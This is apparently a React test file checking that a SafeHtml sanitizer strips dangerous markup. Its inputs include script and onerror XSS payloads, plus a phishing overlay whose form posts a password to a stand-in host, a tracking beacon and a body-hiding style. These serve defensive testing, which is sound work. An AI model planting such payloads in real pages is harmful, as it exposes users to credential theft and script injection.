import { screen } from '@testing-library/react';
import { renderWithTheme } from '../../testing/renderWithTheme';
import { SafeHtml } from './SafeHtml';

it('SafeHtml keeps markup and removes scripts and event handlers', () => {
  const { container } = renderWithTheme(
    <SafeHtml
      html={'<p>Dear <b>{user}</b></p><script>window.hacked = 1</script><img src="x" onerror="window.hacked = 2">'}
    />,
  );
  expect(screen.getByText('{user}').tagName).toBe('B');
  expect(container.querySelector('script')).toBeNull();
  expect(container.querySelector('img')).not.toHaveAttribute('onerror');
});

it('SafeHtml shows a booby-trapped template as harmless markup: no form, no positioning, no foreign image', () => {
  const { container } = renderWithTheme(
    <SafeHtml
      html={
        '<div style="position:fixed;inset:0;z-index:9999;color:red"><form action="http://phish.invalid/steal">' +
        '<input name="password"><button>Log in</button></form></div><img src="https://evil.example/beacon.png">' +
        '<style>body{display:none}</style><p class="sc-backdrop">Dear {user}</p>'
      }
    />,
  );
  const shown = container.firstElementChild!;
  expect(shown.querySelector('form, input, button, style, [class]')).toBeNull();
  expect(shown.querySelector('div')).toHaveAttribute('style', 'color: red');
  expect(shown.querySelector('img')).not.toHaveAttribute('src');
  expect(screen.getByText('Dear {user}').tagName).toBe('P');
});
